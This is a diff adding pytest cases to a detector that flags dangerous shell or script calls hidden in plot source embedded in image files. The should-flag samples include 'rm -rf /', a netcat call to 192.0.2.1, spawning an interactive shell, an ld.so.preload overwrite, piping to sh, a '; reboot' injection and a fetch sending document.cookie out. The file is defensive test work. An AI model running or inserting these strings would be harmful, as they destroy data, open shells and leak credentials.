@@ -6,6 +6,8 @@ from typing import TYPE_CHECKING
 
 import pytest
 
+from corrupt_samples.encode import jpeg
+from corrupt_samples.pictures import photo
 from tests.embedding import in_comments, with_chunk
 
 if TYPE_CHECKING:
@@ -94,6 +96,25 @@ def test_is_silent_about_words_on_code(fired: Fired) -> None:
         (b"os.system('mkdir plots && rm -rf /')", True),
         (b"os.system('convert a.png b.png && nc 192.0.2.1 80')", True),
         (b"os.execl('/bin/sh', 'sh')", True),
+        (b"os.system('open a.png')", False),
+        (b"os.system('rm -f frame*.png')", False),
+        (b"os.system('sleep 1')", False),
+        (b"p = Popen(cmd, stdout=PIPE)", False),
+        (b"from subprocess import Popen\np = Popen(['gnuplot', '-p'], stdin=PIPE)", False),
+        (b"from os import system\nsystem('clear')", False),
+        (b"import subprocess as sp\nsp.run(['git', 'log'])\nsim.run('a')", False),
+        (b"import subprocess as sp\nsp.run(['sh', '-i'])", True),
+        (b"from os import *\nsystem('id')", True),
+        (b"from subprocess import run as r\nr('id')", True),
+        (b"os.system('cp a.png /etc/ld.so.preload')", True),
+        (b"os.system('rm -rf x.png')", True),
+        (b"os.system('tar xf a.jpg -C /')", True),
+        (b"os.system('gcc -x c a.png')", True),
+        (b"os.system('open a.png.command')", True),
+        (b"os.system('mkdir a && dd of=a.png')", True),
+        (b"os.system('blender -b a.blend --python a.png')", True),
+        (b"os.system('ls ' + '; reboot')", True),
+        (b"subprocess.run(['convert', 'a.png', '|sh'])", True),
     ],
 )
 def test_a_plot_s_source_may_call_what_draws(fired: Fired, call: bytes, is_found: bool) -> None:
@@ -101,6 +122,23 @@ def test_a_plot_s_source_may_call_what_draws(fired: Fired, call: bytes, is_found
         b"Source\0import os, ctypes, subprocess\nimport matplotlib.pyplot as plt\n%s\nplt.savefig('a.png')\n" % call
     )
     assert bool(fired(RULE, {"a.png": with_chunk(b"tEXt", source)})) == is_found
+
+
+@pytest.mark.parametrize(
+    ("source", "is_found"),
+    [
+        (b'const data = await fetch("https://example.org/a.csv");\nplot(data);', False),
+        (b'importScripts("https://example.org/a.js");', False),
+        (b'local gp = io.popen("gnuplot -persist", "w")\ngp:write("plot x")', False),
+        (b'os.execute("mkdir -p out")\nos.execute("sleep 1")', False),
+        (b'local gp = io.popen("gnuplot | sh", "w")', True),
+        (b"fetch('//example.org/?' + document.cookie)", True),
+        (b"require(\"child_process\")['exec']('id')", True),
+    ],
+)
+def test_plots_of_other_languages_may_load_their_data_and_draw(fired: Fired, source: bytes, is_found: bool) -> None:
+    files = {"a.png": with_chunk(b"tEXt", b"Source\0" + source), "behind.jpg": jpeg(photo("a")) + source}
+    assert fired(RULE, files).keys() == (files.keys() if is_found else set())
 
 
 def test_a_plot_s_source_may_ask_for_versions_and_run_nothing_else(fired: Fired) -> None:
